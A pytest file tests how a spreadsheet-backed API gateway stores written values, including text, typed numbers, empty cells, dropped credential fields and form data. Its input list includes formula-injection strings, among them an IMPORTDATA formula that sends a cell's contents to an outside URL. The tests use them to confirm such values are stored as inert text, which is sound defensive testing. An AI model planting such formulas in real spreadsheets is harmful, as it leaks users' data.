"""Cells of written values, as in the contract's section *Rows*."""

import pytest

from tests.journeys.conftest import Api, OpenGateway

STORED_AS_TEXT = [
    "=1+2",
    '=IMPORTDATA("https://example.org/"&A2)',
    "\t=1",
    "+cmd",
    "@x",
    "-1+1",
    "'quoted",
    "007",
    "1250",
    "1,250",
    "50%",
    "TRUE",
    "2020-01-01",
    "+441632960000",
    " blanks ",
    "two\nlines",
    "nan",
    "１２３",
    "🏙",
]
STORED_TYPED: list[tuple[str, object, str]] = [
    ("5", 5, "5"),
    ("-5", -5, "-5"),
    ("0", 0, "0"),
    ("0.25", 0.25, "0.25"),
    ("1e3", 1000, "1000"),
    ("9007199254740992", 2**53, "9.0072E+15"),
    ("true", True, "TRUE"),
    ("false", False, "FALSE"),
]
"""JSON as sent, what the cell holds, what it displays."""


def test_strings_are_stored_as_they_are(api: Api) -> None:
    """A string is stored as text, even if typing it would give something else."""
    created = [api.post("HeaderOnly", json={"name": text}).json() for text in STORED_AS_TEXT]
    updated = [
        api.post(f"HeaderOnly/{row}", json={"amount": text}).json()
        for row, text in enumerate(STORED_AS_TEXT, 2)
    ]
    held = [{"value": text, "formula": None, "text": text} for text in STORED_AS_TEXT]

    assert created == [
        {"rowIndex": row, "name": text} for row, text in enumerate(STORED_AS_TEXT, 2)
    ]
    assert updated == [
        {"rowIndex": row, "amount": text} for row, text in enumerate(STORED_AS_TEXT, 2)
    ]
    assert api.emulator.cells("HeaderOnly")[1:] == [[each, each] for each in held]
    assert api.get("HeaderOnly").json()["results"] == [
        {"rowIndex": row, "name": text, "amount": text}
        for row, text in enumerate(STORED_AS_TEXT, 2)
    ]


def test_numbers_and_booleans_are_stored_typed(api: Api) -> None:
    """A number or boolean is one in the cell, and answered as the sheet displays it."""
    headers = {"Content-Type": "application/json"}
    created = [
        api.post("HeaderOnly", content=f'{{"name":{sent},"amount":9}}', headers=headers).text
        for sent, _, _ in STORED_TYPED
    ]
    updated = [
        api.post(f"HeaderOnly/{row}", content=f'{{"amount":{sent}}}', headers=headers).text
        for row, (sent, _, _) in enumerate(STORED_TYPED, 2)
    ]
    held = [[each["value"] for each in row] for row in api.emulator.cells("HeaderOnly")[1:]]

    assert created == [
        f'{{"rowIndex":{row},"name":"{shown}","amount":"9"}}'
        for row, (_, _, shown) in enumerate(STORED_TYPED, 2)
    ]
    assert updated == [
        f'{{"rowIndex":{row},"amount":"{shown}"}}'
        for row, (_, _, shown) in enumerate(STORED_TYPED, 2)
    ]
    assert repr(held) == repr([[stored, stored] for _, stored, _ in STORED_TYPED])


@pytest.mark.parametrize("empty", [None, ""], ids=["null", "empty-string"])
def test_null_and_the_empty_string_empty_a_cell(api: Api, empty: str | None) -> None:
    """null and "" leave a new row's cell empty, and empty the cell of a row that is there."""
    created = api.post("Cities", json={"name": "Austin", "state": empty, "population": 1})
    updated = api.post("Cities/2", json={"state": empty})

    assert created.text == '{"rowIndex":12,"name":"Austin","state":null,"population":"1"}'
    assert updated.text == '{"rowIndex":2,"state":null}'
    assert api.emulator.texts("Cities")[1] == ["New York", "", "USA", "8804190"]
    assert api.emulator.cell("Cities", 2, 2)["value"] is None
    assert api.emulator.cell("Cities", 12, 2)["value"] is None


def test_the_answer_shows_what_the_sheet_displays(api: Api) -> None:
    """A number written into a formatted cell is answered in the cell's format."""
    answer = api.post("Mixed/3", json={"value": 1000, "when": 43831})

    assert answer.text == '{"rowIndex":3,"value":"$1,000.00","when":"2020-01-01"}'


@pytest.mark.parametrize("name", ["apiKey", "spreadsheetId", "rowIndex"])
def test_credentials_and_row_numbers_in_a_body_are_not_stored(api: Api, name: str) -> None:
    """Dropped even if a header has such a name."""
    created = api.post("RowIndex", json={name: "secret", "name": "c"})
    updated = api.post("RowIndex/2", json={name: "secret", "name": "d"})

    assert created.text == '{"rowIndex":4,"name":"c"}'
    assert updated.text == '{"rowIndex":2,"name":"d"}'
    assert api.emulator.texts("RowIndex") == [
        ["rowIndex", "name"],
        ["99", "d"],
        ["98", "b"],
        ["", "c"],
    ]


def test_unknown_fields_can_be_dropped(open_gateway: OpenGateway) -> None:
    """With `api.unknown_fields = "ignore"` other fields are written, and the rest is named."""
    api = open_gateway({"api.unknown_fields": "ignore"})
    created = api.post("HeaderOnly", json={"name": "a", "surplus": 1, 'of "ö': 2, "x": None})
    updated = api.post("HeaderOnly/2", json={"amount": 5, "surplus": 1})
    known = api.post("HeaderOnly/2", json={"amount": 6})

    assert (created.status_code, created.json()) == (201, {"rowIndex": 2, "name": "a"})
    assert created.headers["x-ignored-fields"] == r'"surplus", "of \"\u00f6", "x"'
    assert (updated.status_code, updated.json()) == (200, {"rowIndex": 2, "amount": "5"})
    assert updated.headers["x-ignored-fields"] == '"surplus"'
    assert "x-ignored-fields" not in known.headers
    assert api.emulator.texts("HeaderOnly") == [["name", "amount"], ["a", "6"]]


def test_only_unknown_fields_are_refused_all_the_same(open_gateway: OpenGateway) -> None:
    """A request without any known field is refused."""
    api = open_gateway({"api.unknown_fields": "ignore"})
    before = api.emulator.everything()
    answer = api.post("HeaderOnly", json={"surplus": 1})

    assert (answer.status_code, answer.json()["code"]) == (400, 104)
    assert answer.json()["outcome"] == "not_applied"
    assert api.emulator.everything() == before


@pytest.mark.parametrize(
    "content_type", [None, "text/plain", "application/x-www-form-urlencoded", "application/json"]
)
def test_a_json_object_needs_no_content_type(api: Api, content_type: str | None) -> None:
    """A body that begins with `{` is JSON, for all content types."""
    headers = {} if content_type is None else {"Content-Type": content_type}
    answer = api.post("HeaderOnly", content=b' {"name": "a", "amount": 1}', headers=headers)

    assert (answer.status_code, answer.json()) == (
        201,
        {"rowIndex": 2, "name": "a", "amount": "1"},
    )
    assert api.emulator.cell("HeaderOnly", 2, 2)["value"] == 1


def test_forms_are_stored_as_text(api: Api) -> None:
    """A form's fields are strings: stored as they are, empty ones empty the cell."""
    created = api.post("HeaderOnly", data={"name": "=1+2 & ö", "amount": "007", "rowIndex": "9"})
    updated = api.post("HeaderOnly/2", data={"name": ""})

    assert created.json() == {"rowIndex": 2, "name": "=1+2 & ö", "amount": "007"}
    assert updated.json() == {"rowIndex": 2, "name": None}
    assert api.emulator.cell("HeaderOnly", 2, 2) == {"value": "007", "formula": None, "text": "007"}
